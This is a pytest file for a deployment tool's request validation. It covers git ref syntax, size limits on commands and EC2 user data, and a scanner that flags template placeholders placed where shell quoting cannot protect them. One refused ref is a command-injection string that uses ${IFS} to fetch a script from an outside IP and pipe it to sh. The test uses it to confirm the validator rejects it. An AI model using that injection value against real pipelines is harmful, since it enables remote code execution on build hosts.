"""The request contract at the boundary: git refs by ``git check-ref-format``, sizes, and templates
whose placeholders shell quoting could not protect."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from immutable_deploy.domain.models.request import (
    MAX_COMMAND_CHARS,
    DeploymentRequest,
    Profile,
    Release,
    describe_validation_error,
    shell_template_problems,
)

RELEASE = {"version": "2.0.0", "git_ref": "release/2.0.0", "commit": "9fceb02"}


def profile(**bake) -> dict:
    return {
        "bake": {
            "source_ami_id": "ami-0123456789abcdef0",
            "instance_types": ["t3.medium"],
            "subnet_ids": ["subnet-0123456789abcdef0"],
        }
        | bake,
        "fleet": {
            "instance_type": "m5.large",
            "subnet_ids": ["subnet-0123456789abcdef0"],
            "min_size": 1,
            "max_size": 2,
        },
        "traffic": {"load_balancer_names": ["web-elb"]},
    }


def problems(request: dict) -> list[str]:
    try:
        DeploymentRequest.model_validate(request)
    except ValidationError as exc:
        return describe_validation_error(exc)
    return []


def request(release: dict | None = None, **bake) -> dict:
    return {"app": "web", "release": release or RELEASE, "profile": profile(**bake)}


# --- git refs -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "ref",
    [
        "release/2.0.0",
        "refs/tags/v1",
        "refs/heads/main",
        "main",
        "v2.3.0",
        "feature/x_y-z+1",
        "a@b",
        "x.lockx",
        "release/é",
        "a;b",
        "$(x)",
        "a|b",
        "it's",
        'say"hi"',
        "a&b",
        "a" * 255,
    ],
)
def test_git_refs_that_git_accepts_are_accepted(ref):
    assert Release(version="2.0.0", git_ref=ref, commit="9fceb02").git_ref == ref


@pytest.mark.parametrize(
    "ref, why",
    [
        ("release/2.0.0\n", None),  # trailing whitespace is stripped, like every string of the contract
        ("a\nb", "it contains a control character ('\\n')"),
        ("a\x7fb", "it contains a control character ('\\x7f')"),
        ("a\tb", "it contains a control character ('\\t')"),
        ("a b", "it contains a space"),
        ("a~1", "it contains '~'"),
        ("a^2", "it contains '^'"),
        ("http://x", "it contains ':'"),
        ("a?", "it contains '?'"),
        ("a*", "it contains '*'"),
        ("a[1]", "it contains '['"),
        ("a\\b", "it contains '\\\\'"),
        ("a..b", "it contains '..'"),
        ("a@{1}", "it contains '@{'"),
        ("@", "it is '@'"),
        ("/release", "it starts or ends with '/'"),
        ("release/", "it starts or ends with '/'"),
        ("release//2", "it contains '//'"),
        ("release/.hidden", "its component '.hidden' starts with '.'"),
        (".release", "its component '.release' starts with '.'"),
        ("release/2.lock", "its component '2.lock' ends with '.lock'"),
        ("a.lock/b", "its component 'a.lock' ends with '.lock'"),
        ("release.", "it ends with '.'"),
        ("release/2.0.0;curl${IFS}-s${IFS}http://203.0.113.9/x|sh;#", "it contains ':'"),
    ],
)
def test_git_refs_that_git_refuses_are_refused_with_the_rule(ref, why):
    found = problems(request({**RELEASE, "git_ref": ref}))
    if why is None:
        assert found == []
    else:
        assert found == [f"release.git_ref: {ref!r} is not a git ref (git check-ref-format): {why}"]


def test_git_refs_are_bounded():
    assert problems(request({**RELEASE, "git_ref": "a" * 256})) == [
        "release.git_ref: String should have at most 255 characters"
    ]
    assert problems(request({**RELEASE, "git_ref": ""})) == ["release.git_ref: String should have at least 1 character"]


# --- sizes ----------------------------------------------------------------------------------------


def test_commands_are_bounded_in_number_and_length():
    assert problems(request(ready_commands=["true"] * 21)) == [
        "profile.bake.ready_commands: List should have at most 20 items after validation, not 21"
    ]
    assert problems(request(production_settings_commands=["x" * 4097])) == [
        "profile.bake.production_settings_commands[0]: String should have at most 4096 characters"
    ]
    assert problems(request(ready_commands=["true"] * 20, production_settings_commands=["x" * 4096])) == []
    assert problems(request(user_data="x" * 12_001)) == [
        "profile.bake.user_data: String should have at most 12000 characters"
    ]


def test_what_is_rendered_must_fit_too():
    long_ref = {**RELEASE, "git_ref": "release/" + "a" * 240}
    user_data = "#!/bin/bash\n" + "echo {git_ref}\n" * 80  # 1,211 characters, 20 KB once rendered
    command = "echo " + "{git_ref} " * 40
    found = problems(request(long_ref, user_data=user_data, ready_commands=["true", command]))
    assert len(found) == 1
    assert (
        "profile.bake.user_data: rendered for this release it is 20,331 bytes; EC2 accepts at most 16,384 (16 KB)"
        in found[0]
    )
    assert (
        f"profile.bake.ready_commands[1]: rendered for this release it is 9,964 characters; "
        f"at most {MAX_COMMAND_CHARS:,}"
    ) in found[0]
    assert problems(request(user_data=user_data, ready_commands=["true", command])) == []


# --- placeholders where shell quoting would not hold -------------------------------------------


@pytest.mark.parametrize(
    "command, message",
    [
        (
            'curl -fsS "localhost/{app}"',
            "{app} is inside quotes: placeholders are shell-quoted for you; remove the quotes",
        ),
        (
            "/opt/app/bin/install --ref '{git_ref}'",
            "{git_ref} is inside quotes: placeholders are shell-quoted for you; remove the quotes",
        ),
        ("echo $'{version}'", "{version} is inside quotes"),
        ('echo "$(install {git_ref})" "{commit}"', "{commit} is inside quotes"),
        (
            "echo `install {git_ref}`",
            "{git_ref} is inside backticks, where its shell quoting does not hold; use $(...) instead",
        ),
        ("echo ${REF:-{git_ref}}", "{git_ref} is inside ${...}"),
        ("echo $(( {version} + 1 ))", "{version} is inside an arithmetic expression"),
        ("(( n = {version} ))", "{version} is inside an arithmetic expression"),
        ("cat > /etc/app.env <<EOF\nREF={git_ref}\nEOF", "line 2: {git_ref} is inside a here-document"),
        ("echo 'unclosed {app}", "{app} is inside quotes"),
        ("echo 'unclosed", "it leaves a ' quote open: each command must be complete"),
        ("cat <<EOF", "it leaves a here-document open"),
        ("x=$(date", "it leaves a $( open"),
    ],
)
def test_a_command_that_puts_a_placeholder_out_of_reach_of_quoting_is_refused(command, message):
    found = problems(request(ready_commands=["true", command]))
    assert len(found) == 1 and found[0].startswith("profile.bake.ready_commands[1]: ") and message in found[0]


@pytest.mark.parametrize(
    "command",
    [
        "/opt/app/bin/install --version {version} --ref {git_ref} --commit {commit}",
        "REF={git_ref}; echo \"$REF\" '{not a placeholder}' ${app} ${HOME} {} {foo}",
        'echo "$(install {git_ref})" --ref={git_ref}',
        "f() { echo {app}; }; arr=(a {app}); f",
        "# a comment may say '{git_ref}\ncurl -fsS localhost/health?ref={git_ref}",
        "cat <<'EOF' > /etc/motd\nhello\nEOF\necho {version}",
        "echo $(( 1 + 2 )) {app} && cat <<< {git_ref}",
    ],
)
def test_placeholders_where_quoting_holds_are_accepted(command):
    assert problems(request(ready_commands=[command], production_settings_commands=[command])) == []


def test_user_data_is_checked_as_one_script_and_the_field_and_line_are_named():
    user_data = '#!/bin/bash\nset -euo pipefail\n/opt/app/bin/install --ref "{git_ref}"\n'
    assert problems(request(user_data=user_data)) == [
        "profile.bake.user_data: line 3: {git_ref} is inside quotes: placeholders are shell-quoted for you; "
        "remove the quotes"
    ]
    # the stored profile is checked the same way (at synth)
    with pytest.raises(ValidationError, match="placeholders are shell-quoted for you"):
        Profile.model_validate(profile(production_settings_commands=["use-settings '{version}'"]))


def test_the_scanner_reports_every_placeholder_with_its_line():
    script = "echo '{app}'\necho {app}\ncat <<-EOF\n\t{version}\n\tEOF\necho `{commit}`"
    assert [p.split(" is ")[0] for p in shell_template_problems(script, whole=True)] == [
        "line 1: {app}",
        "line 4: {version}",
        "line 6: {commit}",
    ]
